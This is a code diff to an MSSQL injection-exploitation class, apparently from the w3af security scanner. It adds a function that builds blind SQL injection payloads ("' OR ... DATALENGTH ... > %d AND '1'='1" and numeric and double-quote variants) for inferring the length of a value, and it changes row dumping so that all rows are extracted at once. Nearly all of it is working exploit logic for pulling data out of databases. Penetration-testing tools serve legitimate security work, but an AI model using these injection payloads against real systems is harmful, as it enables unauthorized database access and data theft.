@@ -54,6 +54,21 @@ class MSSQLServerMap(Common):
 
         return evilStm
 
+    def createLengthStm(self):
+        # LEN() ignores the trailing spaces. DATALENGTH() counts bytes, it is
+        # divided by the size of the first character: 2 for the n-types (the
+        # empty value is a NULL length, which is not > 0)
+        length = "(SELECT DATALENGTH(v) / NULLIF(DATALENGTH(LEFT(v, 1)), 0) " \
+                 "FROM (SELECT (%s) AS v) AS w3af_length)"
+        if self.args.injectionMethod == "numeric":
+            evilStm = " OR " + length + " > %d"
+        elif self.args.injectionMethod == "stringsingle":
+            evilStm = "' OR " + length + " > %d AND '1'='1"
+        elif self.args.injectionMethod == "stringdouble":
+            evilStm = '" OR ' + length + ' > %d AND "1"="1'
+
+        return evilStm
+
     def createExactStm(self):
         if self.args.injectionMethod == "numeric":
             evilStm = " OR SUBSTRING((%s), %d, %d) = '%s' AND 1=1"
@@ -385,12 +400,15 @@ class MSSQLServerMap(Common):
             columnData = {}
             columnValues[column] = {}
 
+            stms = []
             for index in range(int(count)):
                 stm  = "SELECT TOP 1 %s FROM %s " % (column, fromExpr)
                 stm += "WHERE %s NOT IN (SELECT TOP %d " % (column, index)
                 stm += "%s FROM %s)" % (column, fromExpr)
-                value = self.getValue(stm)
+                stms.append(stm)
 
+            # All the rows are extracted at the same time
+            for value in self.getValues(stms):
                 length = max(length, len(str(value)))
                 values.append(value)
 